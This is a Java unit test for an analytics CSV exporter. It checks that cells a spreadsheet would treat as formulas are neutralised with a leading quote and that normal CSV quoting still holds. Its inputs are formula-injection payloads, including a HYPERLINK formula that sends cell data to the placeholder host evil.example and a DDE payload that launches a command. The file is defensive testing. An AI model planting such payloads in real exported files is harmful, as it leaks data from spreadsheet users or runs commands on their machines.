package io.digitaltowns.api.analytics;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.LocalDate;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Issue 16, finding 15: a cell a spreadsheet would run as a formula is neutralised; CSV quoting
 * still holds.
 */
class CsvReportTest {

  @Test
  void text_cells_a_spreadsheet_would_run_as_a_formula_start_with_a_quote_and_are_quoted() {
    List<String> hostile =
        List.of(
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1");

    String csv = CsvReport.of(report(hostile.stream().map(town -> row(town, 1L)).toList()));

    List<String> lines = List.of(csv.split("\r\n", -1));
    assertThat(lines.get(1))
        .isEqualTo("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\",1");
    assertThat(lines.get(2)).isEqualTo("\"'+1+cmd|' /C calc'!A0\",1");
    assertThat(lines.get(3)).isEqualTo("\"'-2+3\",1");
    assertThat(lines.get(4)).isEqualTo("\"'@SUM(A1:A9)\",1");
    assertThat(lines.get(5)).isEqualTo("\"'\t=1+1\",1");
    assertThat(csv).contains("\"'\r=1+1\",1\r\n");
  }

  @Test
  void numbers_plain_text_and_separators_are_written_as_before() {
    String csv =
        CsvReport.of(
            report(
                List.of(row("town-a", -3L), row("Stow, on the Wold", 2.5), row("say \"hi\"", 0))));

    assertThat(csv)
        .isEqualTo(
            "townId,figure\r\ntown-a,-3\r\n\"Stow, on the Wold\",2.5\r\n\"say \"\"hi\"\"\",0\r\n");
  }

  private static AnalyticsReport report(List<Map<String, Object>> rows) {
    return new AnalyticsReport(
        "dt.analytics.test",
        LocalDate.of(2026, 3, 1),
        LocalDate.of(2026, 3, 2),
        List.of("townId", "figure"),
        rows);
  }

  private static Map<String, Object> row(String town, Object figure) {
    Map<String, Object> row = new LinkedHashMap<>();
    row.put("townId", town);
    row.put("figure", figure);
    return row;
  }
}
